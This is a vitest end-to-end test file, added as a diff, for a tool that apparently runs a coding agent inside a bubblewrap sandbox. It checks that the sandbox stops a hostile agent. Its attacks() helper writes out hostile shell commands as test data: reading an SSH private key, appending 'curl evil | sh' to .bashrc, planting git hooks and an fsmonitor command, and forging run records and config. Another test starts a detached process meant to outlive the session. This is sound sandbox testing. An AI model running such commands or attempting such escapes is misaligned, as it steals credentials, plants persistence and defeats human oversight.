@@ -1,0 +1,233 @@
+import { execFileSync } from 'node:child_process';
+import { chmodSync, chownSync, existsSync, readFileSync, realpathSync } from 'node:fs';
+import { mkdir, mkdtemp, readdir, symlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { lookUp } from '../../src/process/find-executable.js';
+import { makeRepo, runRalph, type Repo } from '../helpers/e2e.js';
+
+// The box is the kernel's: these tests need bubblewrap and a kernel that lets it make namespaces.
+const bwrap = lookUp('bwrap', '/', process.env.PATH ?? '');
+const boxWorks =
+  process.platform === 'linux' &&
+  bwrap !== undefined &&
+  (() => {
+    try {
+      execFileSync(bwrap, ['--unshare-pid', '--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', 'true']);
+      return true;
+    } catch {
+      return false;
+    }
+  })();
+const isRoot = process.getuid?.() === 0;
+
+/** A home of its own for the run, with a private key, a shell profile and a client state folder. */
+async function fakeHome(owner?: number) {
+  const home = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-home-')));
+  await mkdir(join(home, '.ssh'));
+  await writeFile(join(home, '.ssh/id_rsa'), 'PRIVATE KEY\n');
+  await writeFile(join(home, '.bashrc'), '# mine\n');
+  await mkdir(join(home, '.claude'));
+  if (owner !== undefined) execFileSync('chown', ['-R', `${owner}:${owner}`, home]);
+  return home;
+}
+
+/**
+ * What a hostile agent tries, each line recording whether the kernel let it: read a key, write the
+ * shell's profile and a file outside the repository, plant a hook and an fsmonitor, forge ralph's
+ * records and config, and signal every process it can see.
+ */
+function attacks(home: string, outside: string): string[] {
+  const tries: [string, string][] = [
+    ['read-ssh-key', `cat ${home}/.ssh/id_rsa | grep -q PRIVATE`],
+    ['write-bashrc', `echo 'curl evil | sh' >> ${home}/.bashrc`],
+    ['write-outside', `echo pwned > ${outside}/pwned`],
+    ['write-hook', `printf '#!/bin/sh\\ntouch ${outside}/hooked\\n' > .git/hooks/post-commit`],
+    ['set-fsmonitor', `git config core.fsmonitor 'touch ${outside}/monitored'`],
+    ['forge-records', `echo '{"forged":true}' > .git/ralph/state.json`],
+    ['forge-config', `echo '{"gates":[{"name":"t","command":"true"}]}' > ralph/config.json`],
+    ['swap-git-dir', `mv .git .git-real`],
+    ['write-client-state', `echo ok > ${home}/.claude/note`],
+    ['write-temp', `echo ok > "$TMPDIR/scratch"`],
+  ];
+  return tries.map(
+    ([name, command]) =>
+      `if ${command} 2>/dev/null; then echo ${name}=done; else echo ${name}=refused; fi >> box-results.txt`,
+  );
+}
+
+function results(repo: Repo): Record<string, string> {
+  return Object.fromEntries(
+    repo
+      .read('box-results.txt')
+      .trim()
+      .split('\n')
+      .map((line) => line.split('=') as [string, string]),
+  );
+}
+
+describe.skipIf(!boxWorks)('ralph run: the agent in a box (bubblewrap)', () => {
+  it('refuses a hostile agent what the box holds, and the honest work still completes', async () => {
+    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
+    await writeFile(join(repo.root, 'ralph/config.json'), '{}\n');
+    repo.git('add', '-A');
+    repo.git('commit', '-qm', 'config');
+    const home = await fakeHome();
+    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
+    await repo.steps([{ shell: attacks(home, outside), implement: true, completeWhenDone: true }]);
+
+    const result = await runRalph(repo, ['run', '--max-iterations', '2'], {
+      env: { RALPH_BOX: undefined, HOME: home },
+    });
+
+    expect(result.stdout).toMatch(/box: bubblewrap \(writable: the work tree/);
+    expect(result.code).toBe(0);
+    expect(results(repo)).toEqual({
+      'read-ssh-key': 'refused',
+      'write-bashrc': 'refused',
+      'write-outside': 'refused',
+      'write-hook': 'refused',
+      'set-fsmonitor': 'refused',
+      'forge-records': 'refused',
+      'forge-config': 'refused',
+      'swap-git-dir': 'refused',
+      'write-client-state': 'done',
+      'write-temp': 'done',
+    });
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
+    expect(await readdir(outside)).toEqual([]);
+    expect(repo.read('ralph/config.json')).toBe('{}\n');
+    expect(() => repo.git('config', '--get', 'core.fsmonitor')).toThrow();
+    expect(repo.lastRun()).toMatchObject({ reason: 'complete', box: { mode: 'bubblewrap' } });
+  });
+
+  it('runs the gates in the box too: a gate cannot write outside the work tree', async () => {
+    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
+    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
+    const gate = `echo from-gate > ${outside}/gate-was-here || true; test ! -e ${outside}/gate-was-here`;
+    await writeFile(
+      join(repo.root, 'ralph/config.json'),
+      JSON.stringify({ gates: [{ name: 'probe', command: gate }] }),
+    );
+    repo.git('add', '-A');
+    repo.git('commit', '-qm', 'gate');
+    await repo.steps([{ implement: true, completeWhenDone: true }]);
+
+    const result = await runRalph(repo, ['run', '--max-iterations', '2'], { env: { RALPH_BOX: undefined } });
+
+    expect(result.code).toBe(0);
+    expect(existsSync(join(outside, 'gate-was-here'))).toBe(false);
+  });
+
+  it('ends the box with the agent: nothing it started outlives an interrupt', async () => {
+    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
+    await repo.steps([{ shell: ['(setsid sleep 3217 &) ; true'], hang: true }]);
+    const result = await runRalph(repo, ['run', '--max-iterations', '1'], {
+      env: { RALPH_BOX: undefined },
+      onStdout: (text, child) => {
+        if (text.includes('sleep 3217')) setImmediate(() => child.kill('SIGINT'));
+      },
+    });
+    expect(result.code).toBe(130);
+    const sleepers = execFileSync('sh', ['-c', `ps -eo pid,args | grep 'sleep 3217' | grep -v grep || true`], {
+      encoding: 'utf8',
+    });
+    expect(sleepers.trim()).toBe('');
+  });
+
+  it('says in the dry run which box the agent and the gates will have, and the command inside it', async () => {
+    const repo = await makeRepo();
+    const result = await runRalph(repo, ['run', '--dry-run'], { env: { RALPH_BOX: undefined } });
+    expect(result.code).toBe(0);
+    expect(result.stdout).toMatch(/box\s+.*bubblewrap: writable: the work tree/);
+    expect(result.stdout).toContain('--unshare-pid');
+  });
+
+  it.skipIf(!isRoot)('holds a non-root user the same way', async () => {
+    const user = 'ralphbox';
+    try {
+      execFileSync('id', [user], { stdio: 'ignore' });
+    } catch {
+      execFileSync('useradd', ['--no-create-home', user]);
+    }
+    const uid = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }).trim());
+    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
+    await writeFile(join(repo.root, 'ralph/config.json'), '{}\n');
+    repo.git('add', '-A');
+    repo.git('commit', '-qm', 'config');
+    const home = await fakeHome(uid);
+    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
+    chownSync(outside, uid, uid);
+    chmodSync(outside, 0o755);
+    execFileSync('chown', ['-R', `${uid}:${uid}`, repo.root]);
+    await repo.steps([{ shell: attacks(home, outside), implement: true, completeWhenDone: true }]);
+
+    const result = await runRalph(repo, ['run', '--max-iterations', '2'], {
+      env: { RALPH_BOX: undefined, HOME: home, IS_SANDBOX: undefined },
+      wrapper: ['setpriv', `--reuid=${uid}`, `--regid=${uid}`, '--clear-groups', '--'],
+    });
+
+    expect(result.stdout).toMatch(/box: bubblewrap/);
+    expect(result.code).toBe(0);
+    expect(results(repo)).toMatchObject({
+      'read-ssh-key': 'refused',
+      'write-bashrc': 'refused',
+      'write-outside': 'refused',
+      'write-hook': 'refused',
+      'forge-records': 'refused',
+      'forge-config': 'refused',
+      'swap-git-dir': 'refused',
+    });
+    expect(await readdir(outside)).toEqual([]);
+  });
+});
+
+describe('ralph run: where no box can be made', () => {
+  it('goes on without one under auto, and says why once', async () => {
+    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
+    await repo.steps([{ implement: true, completeWhenDone: true }]);
+    const noBwrap = await pathWithout('bwrap');
+    const result = await runRalph(repo, ['run', '--max-iterations', '2'], {
+      env: { RALPH_BOX: undefined, PATH: noBwrap },
+    });
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain('box: none (no bubblewrap: apt install bubblewrap');
+    expect(repo.lastRun()).toMatchObject({ box: { mode: 'none' } });
+  });
+
+  it('refuses the run, exit 64, when the box asked for by name cannot start', async () => {
+    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
+    await repo.steps([{ implement: true, completeWhenDone: true }]);
+    const result = await runRalph(repo, ['run', '--box', 'bubblewrap'], { env: { PATH: await pathWithout('bwrap') } });
+    expect(result.code).toBe(64);
+    expect(result.stderr).toContain('--box bubblewrap: no bubblewrap');
+    expect(repo.calls()).toBe(0);
+  });
+
+  it('refuses a ralph/config.json that would widen the box, naming the key', async () => {
+    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
+    await writeFile(join(repo.root, 'ralph/config.json'), JSON.stringify({ box: { write: ['/'] } }));
+    const result = await runRalph(repo, ['run'], { env: { RALPH_BOX: undefined } });
+    expect(result.code).toBe(64);
+    expect(result.stderr).toContain("ralph/config.json: box.write would widen the agent's box");
+    expect(repo.calls()).toBe(0);
+    await writeFile(join(repo.root, 'ralph/config.json'), JSON.stringify({ box: { mode: 'none' } }));
+    const none = await runRalph(repo, ['run'], { env: { RALPH_BOX: undefined } });
+    expect(none.code).toBe(64);
+    expect(none.stderr).toContain('ralph/config.json: box.mode would widen');
+  });
+});
+
+/** The programs a run here needs: ralph's git, the fake agent's shell and node. */
+const NEEDED = ['git', 'node', 'sh', 'dirname', 'env', 'setsid', 'sleep', 'true', 'cat', 'grep'];
+
+/** A PATH of the fake agents and links to the programs a run needs, but not `name`: as if it were not installed. */
+async function pathWithout(name: string): Promise<string> {
+  const dir = await mkdtemp(join(tmpdir(), 'ralph-path-'));
+  for (const program of NEEDED.filter((needed) => needed !== name)) {
+    const found = lookUp(program, '/', process.env.PATH ?? '');
+    if (found) await symlink(found, join(dir, program));
+  }
+  return `${join(import.meta.dirname, '../fixtures/bin')}:${dir}`;
+}
